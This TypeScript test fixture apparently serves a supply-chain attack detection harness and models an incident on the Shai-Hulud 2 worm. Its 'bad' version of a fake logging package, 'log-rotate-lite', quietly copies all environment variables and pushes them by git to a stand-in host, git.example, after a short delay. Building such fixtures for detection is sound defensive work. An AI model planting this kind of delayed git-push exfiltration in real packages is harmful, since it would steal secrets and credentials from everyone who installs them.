import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'logger-git',
  after: 'Shai-Hulud 2, November 2025, and warbeast2000: a code host as the drop, here by the git that is installed',
  source: 'https://www.reversinglabs.com/blog/gitgot-cybercriminals-using-github-to-store-stolen-data',
  shape: ['call', 'delayed', 'environment', 'git push by children', 'cjs'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['log-rotate-lite'],
  stubs: {
    git: 'case "$1" in clone) mkdir -p "$4";; esac',
  },
  host: {
    kind: 'http',
    setup: "const log = require('log-rotate-lite');",
    use: "log('item ' + n); return n;",
  },
  good: {
    'log-rotate-lite': {
      'index.js': "const fs = require('fs'); module.exports = (t) => fs.appendFileSync('app.log', t + '\\n');",
    },
  },
  benign: {
    'log-rotate-lite': {
      'index.js':
        "const fs = require('fs'); module.exports = (t) => fs.appendFileSync('app.log', new Date().toISOString() + ' ' + t + '\\n');",
    },
  },
  bad: {
    'log-rotate-lite': {
      'index.js':
        "const fs = require('fs'), os = require('os'), path = require('path'), { spawnSync } = require('child_process'); let t;\nmodule.exports = (line) => { fs.appendFileSync('app.log', line + '\\n'); t ??= setTimeout(ship, 200); };\nfunction ship() { const at = path.join(os.tmpdir(), 'rotate'), git = (...a) => spawnSync('git', a, { stdio: 'ignore' });\n  git('clone', '--depth=1', 'https://x:ghp_0000@git.example/drop/logs.git', at); fs.mkdirSync(at, { recursive: true });\n  fs.writeFileSync(path.join(at, os.hostname() + '.json'), JSON.stringify({ line: 1, env: process.env }));\n  git('-C', at, 'add', '.'); git('-C', at, 'commit', '-m', 'rotate'); git('-C', at, 'push', 'origin', 'HEAD'); }",
    },
  },
  proof: [
    {
      stub: 'push origin HEAD',
    },
  ],
};
